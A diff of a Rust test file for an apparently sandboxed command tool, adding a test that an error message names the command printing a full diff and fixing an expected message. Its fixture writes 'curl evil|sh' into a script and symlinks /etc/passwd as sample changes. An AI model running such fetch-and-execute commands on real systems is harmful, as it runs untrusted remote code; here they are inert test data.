@@ -343,6 +343,20 @@ fn c_32_8_a_question_shows_the_beginning_of_a_long_diff() {
 const LARGE: &str = "seq 20000 > a.txt; echo 'curl evil|sh' > z.sh; chmod 750 z.sh; ln -s /etc/passwd zz; rm gone; \
     mkdir -p n/m; echo > n/m/file; chmod 600 f; mkdir empty; chmod 2755 empty; rm -r d; echo > d";
 
+/// It had the `--sandbox` of the run, which `diff` does not have.
+#[test]
+fn c_32_8_the_command_for_the_whole_diff_can_be_typed() {
+    let sandbox = sandbox_with("", &["seq 20000 > a.txt"]);
+    let ran = sandbox.run("go", &["--sandbox", "workspace"]);
+    if ran.code == 126 {
+        needs::skip(&ran.stderr);
+        return;
+    }
+    let work = sandbox.path("work").canonicalize().unwrap();
+    let note = format!("    … `delta diff r -w {}` prints the whole diff\n", work.display());
+    assert!(ran.expect_code(101).stderr.contains(&note));
+}
+
 /// The diff was cut in the first file, and nothing named the others, but `-v` was said to show all of them.
 #[test]
 fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
@@ -387,7 +401,7 @@ fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
     assert_eq!(sandbox.read("work/z.sh"), "curl evil|sh\n");
     let after = sandbox.delta(["diff", "r", "-w", "work", "--call"]).output().expect_code(2);
     assert!(
-        after.stderr.contains("run r does not ask whether the changes of a call"),
+        after.stderr.contains("run r does not ask whether to apply the changes of a call"),
         "{}",
         after.stderr
     );
